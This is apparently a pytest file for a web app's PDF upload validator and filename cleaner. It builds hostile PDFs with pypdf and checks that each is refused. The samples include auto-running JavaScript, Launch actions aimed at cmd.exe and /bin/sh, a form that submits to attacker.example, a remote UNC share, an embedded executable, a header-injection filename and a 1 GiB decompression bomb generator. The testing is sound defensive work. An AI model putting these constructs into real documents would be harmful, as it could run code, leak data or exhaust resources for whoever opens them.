"""PDF attachments are judged by their content; stored names are cleaned (no app needed).

The hostile PDFs are built with pypdf itself, each carrying one kind of active content in
one of the places a PDF reader runs it from, or a stream that inflates past the limit.
"""

from __future__ import annotations

import io
import time
import tracemalloc
import zlib
from collections.abc import Callable

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from awards import storage
from awards.storage import AttachmentRefused, PdfLimits
from tests.factories import pdf_bytes, png_bytes

MIB = 1024 * 1024
LIMITS = PdfLimits(inflated_bytes=50 * MIB)


def check(data: bytes, limits: PdfLimits = LIMITS) -> str:
    """The refusal's code, or "accepted"."""
    try:
        storage.check_pdf(data, limits)
    except AttachmentRefused as refused:
        return refused.code
    return "accepted"


def test_a_real_pdf_passes():
    storage.check_pdf(pdf_bytes(2), LIMITS)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (png_bytes(), "attachment_not_pdf"),
        (b"Hello, I am a text file", "attachment_not_pdf"),
        (b"%PDF-1.7\n" + b"junk " * 200, "attachment_unreadable"),
        (pdf_bytes(password="secret"), "attachment_encrypted"),
    ],
    ids=["renamed-png", "text", "fake-pdf-header", "encrypted"],
)
def test_content_that_is_not_a_usable_pdf_is_refused(data, code):
    with pytest.raises(AttachmentRefused) as refused:
        storage.check_pdf(data, LIMITS)
    assert refused.value.code == code


def test_a_truncated_pdf_is_refused():
    data = pdf_bytes()
    with pytest.raises(AttachmentRefused) as refused:
        storage.check_pdf(data[: len(data) // 2], LIMITS)
    assert refused.value.code == "attachment_unreadable"


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("case.PDF", "case.PDF"),
        ("case", "case.pdf"),
        ("", "attachment.pdf"),
        (None, "attachment.pdf"),
        ("Univé case.pdf", "Unive_case.pdf"),
        ("a" * 300 + ".pdf", "a" * 196 + ".pdf"),
        ('x"; filename=evil.html\r\nX-Injected: 1', "x_filenameevil.html_X-Injected_1.pdf"),
    ],
)
def test_clean_name(given, expected):
    assert storage.clean_name(given) == expected


# --- hostile PDFs, built with pypdf ------------------------------------------------------


def build(decorate: Callable[[PdfWriter], None], pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    decorate(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def name(value: str) -> NameObject:
    return NameObject(value)


def action(kind: str, **entries) -> DictionaryObject:
    found = DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind)})
    for key, value in entries.items():
        found[name(f"/{key}")] = value
    return found


def js_action(script: str = "app.alert('hi')") -> DictionaryObject:
    return action("/JavaScript", JS=TextStringObject(script))


def rect() -> ArrayObject:
    return ArrayObject(FloatObject(v) for v in (50, 50, 200, 80))


def add_annotation(writer: PdfWriter, subtype: str, **entries) -> DictionaryObject:
    annotation = DictionaryObject(
        {name("/Type"): name("/Annot"), name("/Subtype"): name(subtype), name("/Rect"): rect()}
    )
    for key, value in entries.items():
        annotation[name(f"/{key}")] = value
    page = writer.pages[0]
    page[name("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return annotation


def document_javascript(writer):
    writer.add_open_action(JavaScript("app.alert('opened')"))


def open_action_javascript(writer):
    writer.root_object[name("/OpenAction")] = writer._add_object(js_action())


def page_open_javascript(writer):
    writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert('page')"))


def catalog_will_close_javascript(writer):
    writer.root_object[name("/AA")] = DictionaryObject({name("/WC"): js_action()})


def link_javascript(writer):
    add_annotation(writer, "/Link", A=writer._add_object(js_action()))


def widget_keystroke_javascript_behind_indirections(writer):
    trigger = writer._add_object(DictionaryObject({name("/K"): writer._add_object(js_action())}))
    widget = add_annotation(writer, "/Widget", FT=name("/Tx"), T=TextStringObject("naam"))
    widget[name("/AA")] = trigger
    writer.root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject([writer.pages[0]["/Annots"][0]])}
    )


def javascript_uri_link(writer):
    add_annotation(writer, "/Link", A=action("/URI", URI=TextStringObject(" JavaScript:alert(1)")))


def javascript_reachable_only_from_the_xref(writer):
    writer._add_object(js_action())


def launch_on_open(writer):
    writer.root_object[name("/OpenAction")] = action(
        "/Launch", F=TextStringObject("C:\\Windows\\System32\\cmd.exe")
    )


def launch_link(writer):
    add_annotation(writer, "/Link", A=action("/Launch", F=TextStringObject("/bin/sh")))


def remote_go_to(writer):
    add_annotation(
        writer,
        "/Link",
        A=action("/GoToR", F=TextStringObject("\\\\attacker\\share\\x.pdf"), D=ArrayObject()),
    )


def attached_file(writer):
    writer.add_attachment("payload.exe", b"MZ not really")


def file_attachment_annotation(writer):
    add_annotation(writer, "/FileAttachment", FS=TextStringObject("payload.exe"))


def embedded_go_to(writer):
    add_annotation(writer, "/Link", A=action("/GoToE", D=ArrayObject()))


def rich_media(writer):
    add_annotation(writer, "/RichMedia", RichMediaContent=DictionaryObject())


def submit_form(writer):
    add_annotation(
        writer,
        "/Widget",
        FT=name("/Btn"),
        A=action("/SubmitForm", F=TextStringObject("https://attacker.example/collect")),
    )


def import_data(writer):
    writer.root_object[name("/OpenAction")] = action("/ImportData", F=TextStringObject("x.fdf"))


def xfa_form(writer):
    writer.root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject(), name("/XFA"): writer._add_object(StreamObject())}
    )


def opens_web_address(writer):
    writer.root_object[name("/OpenAction")] = action(
        "/URI", URI=TextStringObject("https://tracker.example/opened")
    )


def page_opens_web_address_after_a_go_to(writer):
    first = action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference, name("/Fit")]))
    first[name("/Next")] = action("/URI", URI=TextStringObject("https://tracker.example/p1"))
    writer.pages[0][name("/AA")] = DictionaryObject({name("/O"): first})


@pytest.mark.parametrize(
    ("decorate", "code"),
    [
        (document_javascript, "attachment_javascript"),
        (open_action_javascript, "attachment_javascript"),
        (page_open_javascript, "attachment_javascript"),
        (catalog_will_close_javascript, "attachment_javascript"),
        (link_javascript, "attachment_javascript"),
        (widget_keystroke_javascript_behind_indirections, "attachment_javascript"),
        (javascript_uri_link, "attachment_javascript"),
        (javascript_reachable_only_from_the_xref, "attachment_javascript"),
        (launch_on_open, "attachment_launch"),
        (launch_link, "attachment_launch"),
        (remote_go_to, "attachment_launch"),
        (attached_file, "attachment_embedded_file"),
        (file_attachment_annotation, "attachment_embedded_file"),
        (embedded_go_to, "attachment_embedded_file"),
        (rich_media, "attachment_multimedia"),
        (submit_form, "attachment_form_action"),
        (import_data, "attachment_form_action"),
        (xfa_form, "attachment_xfa"),
        (opens_web_address, "attachment_opens_web_address"),
        (page_opens_web_address_after_a_go_to, "attachment_opens_web_address"),
    ],
    ids=lambda value: getattr(value, "__name__", value),
)
def test_a_pdf_with_active_content_is_refused_saying_why(decorate, code):
    with pytest.raises(AttachmentRefused) as refused:
        storage.check_pdf(build(decorate), LIMITS)
    assert refused.value.code == code
    assert refused.value.errors["attachment"] == [storage._ACTIVE_CONTENT[code]]


def test_an_escaped_name_is_read_as_the_name_it_spells():
    data = build(open_action_javascript)
    assert b"/JavaScript" in data
    # "/J#61vaScript" is "/JavaScript"; the xref offsets no longer fit, as in a hand-made file
    assert check(data.replace(b"/S /JavaScript", b"/S /J#61vaScript")) == "attachment_javascript"


def test_javascript_wins_over_a_lesser_finding_in_the_same_file():
    def both(writer):
        opens_web_address(writer)
        link_javascript(writer)

    assert check(build(both)) == "attachment_javascript"


def links_and_a_start_page(writer):
    add_annotation(writer, "/Link", A=action("/URI", URI=TextStringObject("https://ddma.nl")))
    writer.root_object[name("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, name("/Fit")]
    )
    writer.pages[0][name("/AA")] = DictionaryObject(
        {name("/O"): action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference]))}
    )


def test_links_a_reader_clicks_and_a_start_page_are_fine():
    assert check(build(links_and_a_start_page)) == "accepted"


# --- bounds --------------------------------------------------------------------------------


def zeros_deflated(mib: int) -> bytes:
    """A valid zlib stream of `mib` MiB of zeros (about 1 KB per MiB), built without
    compressing them all: after a full flush every MiB compresses to the same bytes."""
    chunk = bytes(MIB)
    deflater = zlib.compressobj(9)
    first = deflater.compress(chunk) + deflater.flush(zlib.Z_FULL_FLUSH)
    middle = deflater.compress(chunk) + deflater.flush(zlib.Z_FULL_FLUSH)
    end = deflater.flush()
    checksum = 1
    for _ in range(mib):
        checksum = zlib.adler32(chunk, checksum)
    return first + middle * (mib - 1) + end[:-4] + checksum.to_bytes(4, "big")


def with_streams(*payloads: bytes, filters: tuple[str, ...] = ("/FlateDecode",)):
    """A decorator for `build`: the first page draws from streams holding `payloads`."""

    def decorate(writer):
        contents = ArrayObject()
        for payload in payloads:
            stream = StreamObject()
            stream._data = payload
            stream[name("/Filter")] = ArrayObject(name(f) for f in filters)
            contents.append(writer._add_object(stream))
        writer.pages[0][name("/Contents")] = contents

    return decorate


def test_a_stream_that_inflates_past_the_limit_is_refused():
    data = build(with_streams(zeros_deflated(3)))
    assert len(data) < 10_000
    assert check(data, PdfLimits(inflated_bytes=2 * MIB)) == "attachment_inflated_too_large"
    assert check(data, PdfLimits(inflated_bytes=4 * MIB)) == "accepted"


def test_the_limit_is_on_all_streams_together():
    data = build(with_streams(*[zeros_deflated(1)] * 3))
    assert check(data, PdfLimits(inflated_bytes=int(2.5 * MIB))) == "attachment_inflated_too_large"
    assert check(data, PdfLimits(inflated_bytes=3 * MIB)) == "accepted"


def test_a_chain_of_filters_is_bounded_too():
    twice = zlib.compress(zeros_deflated(3))
    data = build(with_streams(twice, filters=("/FlateDecode", "/FlateDecode")))
    assert check(data, PdfLimits(inflated_bytes=2 * MIB)) == "attachment_inflated_too_large"
    assert check(data, PdfLimits(inflated_bytes=4 * MIB)) == "accepted"


def test_a_one_gib_bomb_is_refused_quickly_holding_little_memory():
    data = build(with_streams(zeros_deflated(1024)))
    assert len(data) < 1.1 * MIB
    tracemalloc.start()
    started = time.perf_counter()
    try:
        code = check(data)
        elapsed = time.perf_counter() - started
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert code == "attachment_inflated_too_large"
    assert elapsed < 5
    assert peak < 16 * MIB  # the file, a few slices: never the 50 MiB limit, let alone 1 GiB


def test_too_many_pages_are_refused():
    data = pdf_bytes(3)
    assert check(data, PdfLimits(inflated_bytes=MIB, pages=2)) == "attachment_too_many_pages"
    assert check(data, PdfLimits(inflated_bytes=MIB, pages=3)) == "accepted"


def test_too_many_objects_are_refused():
    def many(writer):
        writer.root_object[name("/Junk")] = ArrayObject(
            writer._add_object(DictionaryObject({name("/N"): NumberObject(i)})) for i in range(50)
        )

    data = build(many)
    assert check(data, PdfLimits(inflated_bytes=MIB, objects=40)) == "attachment_too_complex"
    assert check(data, PdfLimits(inflated_bytes=MIB, objects=100)) == "accepted"
